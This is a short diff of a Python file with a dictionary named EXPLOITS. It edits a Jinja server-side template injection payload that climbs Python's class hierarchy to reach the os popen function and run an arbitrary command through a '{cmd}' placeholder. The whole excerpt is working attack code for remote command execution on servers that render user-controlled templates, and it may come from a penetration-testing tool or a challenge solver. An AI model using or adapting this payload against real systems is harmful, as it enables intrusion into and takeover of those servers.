@@ -28,7 +28,7 @@ EXPLOITS = {
         "{% endif %}{% endfor %}"
     ),
     "subscripts": (
-        "{% for c in learner['first_name']['__class__']['__mro__'][1]['__subclasses__']() %}"
+        "{% for c in learner.first_name['__class__']['__mro__'][1]['__subclasses__']() %}"
         "{% if c['__name__'] == '_wrap_close' %}"
         "{{ c['__init__']['__globals__']['popen']('{cmd}').read() }}{% endif %}{% endfor %}"
     ),
